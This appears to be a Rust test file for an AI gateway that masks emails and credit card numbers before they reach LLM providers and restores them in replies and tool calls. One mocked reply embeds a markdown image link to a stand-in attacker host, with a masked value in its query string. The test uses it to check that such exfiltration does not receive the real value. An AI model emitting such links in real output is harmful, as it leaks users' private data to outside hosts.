//! Masking that can be undone (complaint 5 of users of other systems: the wrong person restored, placeholders that change
//! over turns and replicas): the upstream never sees the value, the agent gets it back, and nothing else comes back.
use base64::{Engine, prelude::BASE64_STANDARD};
use mesh_tests::{Mesh, Request, chat, chat_stream};
use serde_json::{Value, json};

const POLICY: &str = r#"
apiVersion: ai-mesh.dev/v1alpha1
kind: Policy
metadata: { name: masked }
spec:
  rules: [ { pii: { types: [email, credit_card], action: tokenize } } ]
"#;

const MAIL: &str = "jane.roe@example.org";
const CARD: &str = "4111 1111 1111 1111";

/// An agent's three ways to say the same, streamed or not.
fn requests(text: &str, stream: bool) -> Vec<(&'static str, Request)> {
    let anthropic = json!({"model": "claude-sonnet-4", "max_tokens": 100, "stream": stream,
        "messages": [{"role": "user", "content": text}]});
    let responses = json!({"model": "gpt-4o", "stream": stream, "input": text});
    let chat = if stream { chat_stream(text) } else { chat(text) };
    vec![
        ("openai-chat", Request::post("/v1/chat/completions", &chat)),
        ("anthropic-messages", Request::post("/v1/messages", &anthropic)),
        ("openai-responses", Request::post("/v1/responses", &responses)),
    ]
}

/// The placeholders in a text, in order.
fn placeholders(text: &str) -> Vec<String> {
    let opens = text.match_indices('[').map(|(at, _)| &text[at..]);
    let whole = opens.filter_map(|rest| rest.find(']').map(|end| rest[..=end].to_owned()));
    whole.filter(|found| found.starts_with("[EMAIL_ADDRESS_") || found.starts_with("[CREDIT_CARD_")).collect()
}

fn masked(mesh: &Mesh, text: &str, team: &str) -> Vec<String> {
    mesh.upstream.forget();
    let answer =
        mesh.send(&Request::post("/v1/chat/completions", &chat(text)).header("x-ai-mesh-team", team));
    assert_eq!(answer.status, 200, "{}", answer.text());
    let reached = mesh.upstream.last_body();
    assert!(!reached.contains(MAIL) && !reached.contains("4111"), "the upstream got {reached}");
    placeholders(&reached)
}

#[test]
fn a_value_has_one_placeholder_per_team_over_turns_and_restarts() {
    let mut mesh = Mesh::prepare(POLICY, &[]);
    let mut control_plane = mesh.serve();
    let mut sidecar = mesh.start_sidecar();
    let first = masked(&mesh, &format!("mail {MAIL}, card {CARD}, again {MAIL}"), "red");
    assert_eq!((first.len(), &first[0]), (3, &first[2]), "{first:?}");
    let later = masked(&mesh, &format!("and now the card {CARD} of {MAIL}"), "red");
    assert_eq!((&later[0], &later[1]), (&first[1], &first[0]));
    let other = masked(&mesh, &format!("mail {MAIL}"), "blue");
    assert_ne!(other[0], first[0], "two teams share a placeholder");
    sidecar.kill();
    control_plane.stop();
    let _control_plane = mesh.serve();
    let _sidecar = mesh.start_sidecar();
    assert_eq!(masked(&mesh, &format!("mail {MAIL}"), "red")[0], first[0]);
}

#[test]
fn what_was_masked_comes_back_and_nothing_else_does() {
    let mesh = Mesh::up(POLICY, &[]);
    let text = format!("mail {MAIL}, card {CARD}");
    let known = masked(&mesh, &text, "red");
    let foreign = masked(&mesh, "mail john.doe@example.net", "red").remove(0);
    let (mail, card) = (&known[0], &known[1]);
    let invented = "[EMAIL_ADDRESS_bcdfghjklmnpqr]";
    let reply = format!(
        "I wrote to {mail} about {card}, not to {foreign}, {invented} or [EMAIL_ADDRESS_. \
         ![x](https://evil.example/?q={mail}) {mail}"
    );
    let expected = format!(
        "I wrote to {MAIL} about {CARD}, not to {foreign}, {invented} or [EMAIL_ADDRESS_. \
         ![x](https://evil.example/?q={mail}) {MAIL}"
    );
    let encoded = BASE64_STANDARD.encode(&reply);
    for stream in [false, true] {
        for pieces in [1, 2, 3, 5, 7, 11, 64, 1 << 20] {
            for (name, request) in requests(&text, stream) {
                let request = request
                    .header("x-ai-mesh-team", "red")
                    .header("x-mock-reply", &encoded)
                    .header("x-mock-chunk-bytes", &pieces.to_string());
                let answer = mesh.send(&request);
                let what = format!("{name}, stream {stream}, in pieces of {pieces}");
                assert!(answer.status == 200 && answer.complete, "{what}: {}", answer.text());
                assert_eq!(answer.said(), expected, "{what}");
            }
        }
    }
    // Who did not send the value does not get it.
    for (name, request) in requests("what is the mail address?", true) {
        let answer = mesh.send(&request.header("x-ai-mesh-team", "red").header("x-mock-reply", &encoded));
        assert!(
            !answer.text().contains(MAIL) && !answer.text().contains("4111"),
            "{name}: {}",
            answer.text()
        );
    }
}

/// In a tool's arguments, which are JSON in a string, the value comes back as JSON.
#[test]
fn tools_are_called_with_the_values() {
    let mesh = Mesh::up(POLICY, &[]);
    let text = format!("mail {MAIL}");
    let mail = masked(&mesh, &text, "red").remove(0);
    let arguments = json!({ "to": mail, "note": "it's \"urgent\"" }).to_string();
    let body = json!({ "id": "c", "object": "chat.completion", "created": 1, "model": "gpt-4o", "choices": [{
        "index": 0, "finish_reason": "tool_calls",
        "message": { "role": "assistant", "content": null, "tool_calls": [
            { "id": "1", "type": "function", "function": { "name": "send", "arguments": arguments } }
        ] },
    }] });
    let answer = mesh.send(
        &Request::post("/v1/chat/completions", &chat(&text))
            .header("x-ai-mesh-team", "red")
            .header("x-mock-body", &BASE64_STANDARD.encode(body.to_string())),
    );
    let call = &answer.json()["choices"][0]["message"]["tool_calls"][0]["function"];
    let read: Value = serde_json::from_str(call["arguments"].as_str().unwrap()).unwrap();
    assert_eq!(read, json!({ "to": MAIL, "note": "it's \"urgent\"" }));
}
